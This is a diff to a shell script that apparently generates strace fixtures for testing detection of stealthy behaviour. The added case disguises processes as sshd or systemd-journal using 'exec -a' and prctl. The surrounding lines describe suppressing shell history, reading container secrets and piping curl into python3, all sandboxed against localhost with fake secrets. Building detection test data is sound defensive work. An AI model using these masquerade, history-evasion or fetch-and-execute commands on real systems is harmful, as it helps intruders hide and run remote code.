@@ -1,6 +1,6 @@
 #!/bin/bash
 # Captures testdata/formats/strace/f_tt_T_y_io_uring_exfil.txt, f_tt_T_y_container_secrets.txt,
-# f_tt_T_y_v_history_off.txt, f_tt_T_y_v_history_kept.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
+# f_tt_T_y_v_history_off.txt, f_tt_T_y_v_history_kept.txt, f_tt_T_y_daemon_masquerade.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
 # from a syscall trace or leaves no file behind, each run as uid 1001 in fresh pid, mount and
 # net namespaces (only `lo`; every connection goes to 127.0.0.1), a tmpfs home with FAKE
 # secrets (random text) and a tmpfs /run holding a fake Kubernetes service-account token and
@@ -15,6 +15,9 @@
 #     by env with HISTFILE=/dev/null HISTSIZE=0 in its environment (-v shows it).
 #   history_kept: the negative: sh runs bash with HISTSIZE=1000 and a bash that prints
 #     its last history entry and $HISTFILE.
+#   daemon_masquerade: bash's `exec -a` runs sleep as "/usr/sbin/sshd" and as
+#     "sshd: root@pts/0", python3 renames itself "systemd-journal" with prctl(PR_SET_NAME);
+#     the negative: `exec -a sleep /usr/bin/sleep` (argv[0] its own name).
 #   pipe_to_interpreter: a Python "updater" whose os.system runs sh -c 'curl -fsS URL |
 #     python3 -' and sh -c 'python3 -c "$(curl -fsS URL)"' against an untraced python
 #     http.server on 127.0.0.1:18556 serving a one-line stage.
@@ -66,6 +69,10 @@ run f_tt_T_y_v_history_kept.txt -f -tt -T -y -v -s 128 -e trace=process -- /bin/
 python3 -m http.server --bind 127.0.0.1 --directory $H/www 18556 > /dev/null 2>&1 &
 HTTP=$!
 wait_port 18556
+run f_tt_T_y_daemon_masquerade.txt -f -tt -T -y -s 96 -- /bin/sh -c \
+  '/bin/bash -c "exec -a /usr/sbin/sshd sleep 0.1"; /bin/bash -c "exec -a \"sshd: root@pts/0\" sleep 0.1";
+   python3 -c "import ctypes; ctypes.CDLL(None).prctl(15, b\"systemd-journal\", 0, 0, 0)";
+   /bin/bash -c "exec -a sleep /usr/bin/sleep 0.1"'
 cat > $H/updater.py <<'PY'
 import os
 URL = "http://127.0.0.1:18556/stage.py"
